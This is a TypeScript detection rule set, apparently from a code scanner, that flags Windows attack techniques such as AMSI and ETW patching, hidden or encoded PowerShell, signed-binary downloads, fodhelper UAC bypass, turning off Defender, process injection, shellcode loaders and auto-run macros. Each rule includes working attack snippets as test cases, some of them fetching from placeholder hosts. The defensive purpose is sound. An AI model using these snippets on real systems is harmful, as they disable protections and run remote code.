// Windows: switching off what protects the machine, running through its own signed programs, and code put into other
// processes. Administrators use the same commands; hidden, encoded, remote or process-injecting forms are what counts.
import {
  any,
  bat,
  c,
  command,
  count,
  cs,
  inside,
  is,
  js,
  near,
  ps,
  py,
  type RuleSet,
  statement,
  vb,
  yml,
} from '../model.ts'

const id = (name: string): string => `windows.${name}`

export const windows: RuleSet = {
  category: 'windows',
  rules: [
    {
      id: id('amsi'),
      severity: 'critical',
      why: 'Switches off the interface through which Windows scans scripts.',
      when: any(
        is(
          ['amsiinitfailed', 'amsiutils', 'amsicontext'],
          /amsi(?:InitFailed|Utils|Context)["')\s]{1,4}(?:,|\.Get|\)|\s)[^\n]{0,80}?(?:SetValue|NonPublic|GetField)/i,
          { families: ['ps', 'cs', 'py', 'js', 'vb', 'bat', 'sh', 'c', 'go'], after: 200 },
        ),
        near(
          20,
          is(
            ['amsiscanbuffer', 'amsiopensession', '"amsi.dll"', "'amsi.dll'"],
            /AmsiScanBuffer|AmsiOpenSession|["']amsi\.dll["']/i,
          ),
          is(
            ['virtualprotect', 'writeprocessmemory', 'marshal]::copy', 'marshal.copy', 'memcpy', 'rtlmovememory'],
            null,
          ),
        ),
        statement(
          is(["'amsi'", '"amsi"', "'am'+'si", '"am"+"si', "'ams'+'i"], null),
          is(['+'], null),
          is(['setvalue', 'getfield'], null),
        ),
      ),
      matches: [
        ps(
          "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
        ),
        cs(
          'var h = LoadLibrary("amsi.dll");\nvar p = GetProcAddress(h, "AmsiScanBuffer");\nVirtualProtect(p, (UIntPtr)5, 0x40, out o);\nMarshal.Copy(patch, 0, p, 6);',
        ),
      ],
      misses: [
        cs(
          '[DllImport("amsi.dll")] static extern int AmsiScanBuffer(IntPtr c, byte[] b, uint l, string n, IntPtr s, out int r);',
        ),
        py("RULE = 'amsiInitFailed'"),
      ],
    },
    {
      id: id('encoded-command'),
      severity: 'high',
      why: 'Runs an encoded PowerShell command.',
      when: command(
        any(
          is(
            ['powershell', 'pwsh'],
            /(?:powershell|pwsh)(?:\.exe)?["',\s][^\n]{0,160}?["'\s,]-(?:e|ec|en|enc|enco|encod|encode|encoded|encodedc\w{0,7})["',\s]{1,4}[A-Za-z0-9+/=]{16,}/i,
            { after: 320 },
          ),
          inside(
            ['py', 'js', 'go', 'vb', 'cs', 'c', 'rb', 'php', 'java', 'rust'],
            // Encoding one's own script is how it gets past three shells' quotes; hiding that it runs has no such reason.
            near(
              2,
              is(
                ['powershell', 'pwsh'],
                /(?:powershell|pwsh)(?:\.exe)?["',\s][^\n]{0,120}?["'\s,]-(?:e|ec|enc|encodedcommand)["',\s]{1,4}/i,
                { after: 240 },
              ),
              is(
                [
                  'hidden',
                  'create_no_window',
                  'creationflags',
                  'windowshide',
                  'bypass',
                  'devnull',
                  'hidewindow',
                  'detached',
                  'sw_hide',
                ],
                null,
                { quoted: true },
              ),
            ),
          ),
        ),
      ),
      matches: [
        bat('powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8A'),
        py("subprocess.Popen(['powershell', '-EncodedCommand', blob], creationflags=CREATE_NO_WINDOW)"),
      ],
      misses: [
        py('subprocess.run(["powershell", "-NoProfile", "-EncodedCommand", encoded], capture_output=True)'),
        ps('powershell -File build.ps1 -Encoding UTF8'),
        bat('powershell -ExecutionPolicy Bypass -File install.ps1'),
      ],
    },
    {
      id: id('hidden-powershell'),
      severity: 'high',
      why: 'Starts PowerShell hidden, without profile or policy, with inline code that fetches or decodes.',
      when: command(
        is(
          ['powershell', 'pwsh'],
          /(?:powershell|pwsh)(?:\.exe)?["',\s][^\n]{0,120}?-w(?:indowstyle|in)?["',\s]{1,4}(?:hidden|1\b|h\b)[^\n]{0,200}?(?:iex|invoke-expression|downloadstring|downloadfile|frombase64string|http:|https:|iwr|irm|start-bitstransfer)/i,
          { after: 520 },
        ),
      ),
      matches: [
        bat(
          "powershell -NoP -W Hidden -c \"(New-Object Net.WebClient).DownloadFile('http://x.example.invalid/a.exe','a.exe')\"",
        ),
        js(
          'require("child_process").exec("powershell -WindowStyle Hidden -Command iwr https://x.example.invalid/a -OutFile a.exe")',
        ),
      ],
      misses: [bat('powershell -WindowStyle Hidden -File tray.ps1'), bat('powershell -Command "Get-Date"')],
    },
    {
      id: id('lolbin'),
      severity: 'high',
      why: "Fetches or runs remote code through one of Windows' own signed programs.",
      when: command(
        any(
          is(['mshta'], /mshta(?:\.exe)?["',\s]{1,4}(?:["']?https?:|["']?(?:javascript|vbscript):)/i),
          is(['regsvr32'], /regsvr32(?:\.exe)?["',\s][^\n]{0,60}\/i:["']?https?:/i),
          is(
            ['rundll32'],
            /rundll32(?:\.exe)?["',\s]{1,4}(?:javascript:|[^\n]{0,60}url\.dll,(?:FileProtocolHandler|OpenURL)\s+["']?(?:https?:|file:)|\\\\\\{0,2}[\w.]{3,60}@?\w{0,5}\\)/i,
          ),
          is(['certutil'], /certutil(?:\.exe)?["',\s][^\n]{0,60}(?:-|\/)urlcache["',\s][^\n]{0,60}https?:/i),
          is(['bitsadmin'], /bitsadmin(?:\.exe)?["',\s][^\n]{0,40}\/transfer[^\n]{0,120}https?:/i),
          is(
            ['wmic '],
            /wmic\s[^\n]{0,80}(?:\/format:["']?https?:|process\s+call\s+create\s+["'][^\n]{0,60}(?:powershell|cmd|mshta|http))/i,
          ),
          is(
            ['cmstp', 'installutil', 'msiexec', 'odbcconf', 'regasm', 'forfiles', 'pcalua'],
            /cmstp(?:\.exe)?\s[^\n]{0,20}\/s[^\n]{0,60}\.inf|installutil(?:\.exe)?\s[^\n]{0,60}\/U\s|msiexec(?:\.exe)?["',\s][^\n]{0,40}\/i["',\s]{1,4}https?:|odbcconf\s[^\n]{0,40}regsvr|forfiles\s[^\n]{0,60}\/c\s[^\n]{0,40}(?:powershell|mshta)|pcalua\s+-a\s/i,
          ),
        ),
      ),
      matches: [
        bat('mshta http://x.example.invalid/a.hta'),
        bat('regsvr32 /s /n /u /i:http://x.example.invalid/a.sct scrobj.dll'),
        bat('certutil -urlcache -split -f http://x.example.invalid/a.exe a.exe'),
        py("os.system('bitsadmin /transfer j https://x.example.invalid/a.exe C:\\\\a.exe')"),
      ],
      misses: [
        bat('certutil -hashfile a.zip SHA256'),
        bat('regsvr32 /s mylib.dll'),
        bat('REM mshta http://x/a.hta'),
        py("LOLBINS = ['mshta http', 'certutil -urlcache']"),
      ],
    },
    {
      id: id('uac-bypass'),
      severity: 'critical',
      why: 'Hijacks a handler that Windows starts with raised rights, to avoid being asked.',
      when: near(
        14,
        is(
          [
            'ms-settings\\shell',
            'ms-settings\\\\shell',
            'mscfile\\shell',
            'mscfile\\\\shell',
            'exefile\\shell\\runas',
            'folder\\shell\\open',
            'folder\\\\shell\\\\open',
            'appx82',
            '.cpl\\shell',
          ],
          /(?:ms-settings|mscfile|exefile|folder|appx\w{10,40})\\{1,2}shell\\{1,2}(?:open|runas)/i,
        ),
        is(
          [
            'delegateexecute',
            'fodhelper',
            'eventvwr',
            'computerdefaults',
            'sdclt',
            'slui',
            'wsreset',
            'isolatedcommand',
            'reg add',
            'set-itemproperty',
            'new-item',
            'setvalueex',
          ],
          null,
        ),
      ),
      matches: [
        ps(
          'New-Item "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Force\nSet-ItemProperty "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Name DelegateExecute -Value ""\nStart-Process fodhelper.exe',
        ),
      ],
      misses: [ps('Start-Process "ms-settings:display"')],
    },
    {
      id: id('defender-off'),
      severity: 'high',
      why: 'Switches off the virus scanner or excludes whole drives, user folders or programs from it.',
      when: inside(
        ['ps', 'bat', 'py', 'js', 'go', 'vb', 'cs', 'c', 'rust', 'rb', 'java', 'unknown'],
        command(
          any(
            is(
              ['set-mppreference'],
              /Set-MpPreference["',\s][^\n]{0,120}?-Disable(?:RealtimeMonitoring|BehaviorMonitoring|IOAVProtection|ScriptScanning|BlockAtFirstSeen)["',\s]{1,4}(?:\$true|1\b|true)/i,
              { after: 260 },
            ),
            is(
              ['add-mppreference'],
              /Add-MpPreference["',\s][^\n]{0,60}?-Exclusion(?:Path|Extension|Process)["',\s]{1,4}(?:["'`]?(?:c:\\{0,2}["'\s]|c:\\{0,2}$|\$env:(?:temp|appdata|userprofile|programdata|systemdrive)|%(?:temp|appdata|userprofile)|\.?exe|\.?dll|\{|["'`]\s*\+|\$\w{1,20}["'\s])|@\()/i,
              { after: 200 },
            ),
            is(
              ['disableantispyware', 'disableantivirus'],
              /DisableAnti(?:Spyware|Virus)["',\s][^\n]{0,80}(?:1\b|0x1)/i,
            ),
            is(
              ['windefend', 'mpcmdrun', 'wscsvc'],
              /(?:sc(?:\.exe)?|net)\s+(?:stop|delete|config)\s+["']?(?:WinDefend|wscsvc|Sense)|MpCmdRun(?:\.exe)?["']?\s+-RemoveDefinitions/i,
              { before: 30 },
            ),
            is(
              ['netsh'],
              /netsh\s+(?:advfirewall\s+set\s+(?:allprofiles|currentprofile)\s+state\s+off|firewall\s+set\s+opmode\s+(?:mode=)?disable)/i,
            ),
          ),
        ),
      ),
      matches: [
        ps('Set-MpPreference -DisableRealtimeMonitoring $true'),
        py('subprocess.run(\'powershell Add-MpPreference -ExclusionPath "C:\\\\"\', shell=True)'),
        bat('sc stop WinDefend'),
      ],
      misses: [
        ps('Set-MpPreference -DisableRealtimeMonitoring $false'),
        yml('jobs:\n  a:\n    steps:\n      - run: Set-MpPreference -DisableRealtimeMonitoring $true'),
        ps('Get-MpPreference'),
      ],
    },
    {
      id: id('process-injection'),
      severity: 'high',
      why: 'Writes code into another process and starts it there.',
      when: near(
        70,
        is(
          ['writeprocessmemory', 'ntwritevirtualmemory', 'zwwritevirtualmemory'],
          /(?<!def )(?:WriteProcessMemory|(?:Nt|Zw)WriteVirtualMemory)\s*(?:\.Call)?\(\s*[^\s)][^\n]{0,40},/,
        ),
        is(
          ['virtualallocex', 'ntallocatevirtualmemory', 'zwunmapviewofsection', 'ntunmapviewofsection'],
          /(?:VirtualAllocEx|NtAllocateVirtualMemory|(?:Nt|Zw)UnmapViewOfSection)\s*(?:\.Call)?\(/,
        ),
        is(
          [
            'createremotethread',
            'ntcreatethreadex',
            'queueuserapc',
            'setthreadcontext',
            'rtlcreateuserthread',
            'resumethread',
          ],
          /(?:CreateRemoteThread(?:Ex)?|NtCreateThreadEx|QueueUserAPC|SetThreadContext|RtlCreateUserThread|ResumeThread)\s*(?:\.Call)?\(/,
        ),
      ),
      matches: [
        c(
          'HANDLE h = OpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);\nLPVOID m = VirtualAllocEx(h, NULL, n, MEM_COMMIT, PAGE_EXECUTE_READWRITE);\nWriteProcessMemory(h, m, buf, n, NULL);\nCreateRemoteThread(h, NULL, 0, m, NULL, 0, NULL);',
        ),
      ],
      misses: [
        c('HANDLE h = OpenProcess(PROCESS_QUERY_INFORMATION, FALSE, pid);\nReadProcessMemory(h, a, b, n, NULL);'),
      ],
    },
    {
      id: id('shellcode'),
      severity: 'high',
      why: 'Copies bytes into executable memory and jumps to them.',
      when: any(
        near(
          30,
          is(
            ['virtualalloc', 'ntallocatevirtualmemory', 'heapcreate', 'mmap('],
            /(?:VirtualAlloc(?:Ex)?|NtAllocateVirtualMemory)\s*(?:\.Call)?\([^\n;]{0,160}(?:0x40\b|PAGE_EXECUTE_READWRITE|EXECUTE_READWRITE)|HeapCreate\(\s*(?:0x00040000|HEAP_CREATE_ENABLE_EXECUTE)|mmap\([^\n;]{0,120}PROT_EXEC/i,
          ),
          is(
            [
              'createthread',
              'queueuserapc',
              'waitforsingleobject',
              '(void(*)())',
              '((void(*)())',
              'cfunctype',
              'enumsystemlocales',
              'getdelegateforfunctionpointer',
              'void (*)()',
              'syscall.syscall',
            ],
            /CreateThread\s*(?:\.Call)?\(|QueueUserAPC|\(\s?void\s?\(\s?\*\s?\)\s?\(|CFUNCTYPE|EnumSystemLocales|GetDelegateForFunctionPointer/i,
          ),
          is(
            [
              'shellcode',
              'ctypes',
              'fc4883e4',
              '\\xfc\\x48',
              '\\xfc\\xe8',
              '0xfc, 0x48',
              '0xfc,0x48',
              '0xfc,0xe8',
              '0xfc, 0xe8',
              '\\x48\\x31',
              '\\x31\\xc0',
              'payload',
              'frombase64string',
              'xor',
            ],
            null,
            { quoted: true },
          ),
        ),
        near(
          12,
          is(
            ['\\x', '0xfc', '0x48'],
            /(?:\\xfc\\x(?:48|e8)|0xfc,\s*0x(?:48|e8)|\\x48\\x31\\xc[09]|\\x31\\xc0\\x50\\x68)[\\x0-9a-f,\s"'\n]{60}/i,
            { after: 300 },
          ),
          is(
            ['virtualalloc', 'mmap', '(*)()', '(* )', 'void(*)', 'rtlmovememory', 'createthread', 'mprotect', 'ctypes'],
            null,
          ),
        ),
        near(
          30,
          is(
            ['rtlmovememory', 'kernel32.virtualalloc', 'windll.kernel32'],
            /RtlMoveMemory\s*\(|kernel32\.VirtualAlloc\(/,
          ),
          is(['createthread', 'waitforsingleobject'], null),
          inside(['py', 'vb', 'ps', 'cs', 'js'], is(['virtualalloc'], null)),
        ),
      ),
      matches: [
        py(
          'p = ctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, sc, len(sc))\nh = ctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)',
        ),
        c(
          'unsigned char shellcode[] = "\\x90\\x90";\nvoid *m = VirtualAlloc(0, sizeof shellcode, MEM_COMMIT, PAGE_EXECUTE_READWRITE);\nmemcpy(m, shellcode, sizeof shellcode);\n((void(*)())m)();',
        ),
      ],
      misses: [
        c(
          'void *code = mmap(0, n, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);\nemit(code);',
        ),
        c('HANDLE t = CreateThread(NULL, 0, worker, arg, 0, NULL);'),
      ],
    },
    {
      id: id('etw'),
      severity: 'high',
      why: "Patches the function through which Windows records a program's events.",
      when: near(
        15,
        is(['etweventwrite', 'nttraceevent'], /["'](?:EtwEventWrite(?:Full)?|NtTraceEvent)["']/, { before: 1 }),
        is(['virtualprotect', 'writeprocessmemory', 'marshal.copy', 'memcpy', '0xc3'], null),
      ),
      matches: [
        cs(
          'var p = GetProcAddress(ntdll, "EtwEventWrite");\nVirtualProtect(p, (UIntPtr)1, 0x40, out o);\nMarshal.Copy(new byte[] { 0xC3 }, 0, p, 1);',
        ),
      ],
      misses: [c('EtwEventWrite(handle, &desc, 0, NULL);')],
    },
    {
      id: id('macro'),
      severity: 'high',
      why: 'A document macro starts a program or fetches something when the document is opened.',
      when: inside(
        ['vb'],
        near(
          40,
          is(
            ['autoopen', 'auto_open', 'document_open', 'workbook_open', 'autoexec', 'auto_close'],
            /(?:AutoOpen|Auto_Open|Document_Open|Workbook_Open|AutoExec|Auto_Close)\s*\(/i,
          ),
          is(
            [
              'shell',
              'wscript.shell',
              'powershell',
              'createobject("msxml2',
              'winmgmts',
              'urldownloadtofile',
              'virtualalloc',
              'cmd /c',
              'mshta',
            ],
            null,
          ),
        ),
      ),
      matches: [
        vb(
          'Private Sub Document_Open()\n  CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://x.example.invalid/a", 0\nEnd Sub',
        ),
      ],
      misses: [vb('Private Sub Workbook_Open()\n  Sheets(1).Activate\nEnd Sub')],
    },
    {
      id: id('security-tools-killed'),
      severity: 'high',
      why: 'Ends or uninstalls the security tools of a machine.',
      when: command(
        count(
          2,
          is(
            ['msmpeng', 'windefend', 'mssense'],
            /(?:taskkill|stop-process|net stop|sc stop|sc delete|pkill|killall|kill)[^\n]{0,60}(?:MsMpEng|WinDefend|MsSense)/i,
            { before: 90 },
          ),
          is(
            [
              'avastui',
              'avgui',
              'avp.exe',
              'mbam',
              'egui.exe',
              'ekrn',
              'mcshield',
              'savservice',
              'csfalcon',
              'sentinelagent',
              'ccsvchst',
              'bdagent',
              'aliyun',
              'cloudmonitor',
              'qcloud',
              'clamav',
              'falcon-sensor',
              'wazuh',
              'osquery',
            ],
            /(?:taskkill|stop-process|net stop|sc stop|sc delete|pkill|killall|kill|uninstall|systemctl stop|service)[^\n]{0,60}(?:avastui|avgui|avp\.exe|mbam|egui|ekrn|mcshield|savservice|csfalcon|sentinelagent|ccsvchst|bdagent|aliyun|cloudmonitor|qcloud|clamav|falcon-sensor|wazuh|osquery)/i,
            { before: 90 },
          ),
          is(['apparmor', 'setenforce 0', 'iptables -f', 'ufw disable', 'auditd', 'mpssvc', 'wscsvc'], null),
        ),
      ),
      matches: [
        bat('taskkill /f /im MsMpEng.exe\ntaskkill /f /im avastui.exe'),
        {
          content: 'service aliyun stop\nsystemctl stop cloudmonitor\nsetenforce 0\niptables -F',
          path: 'a.sh',
          language: 'Shell',
        },
      ],
      misses: [
        {
          content: 'systemctl stop clamav-daemon\napt-get upgrade\nsystemctl start clamav-daemon',
          path: 'a.sh',
          language: 'Shell',
        },
      ],
    },
  ],
}
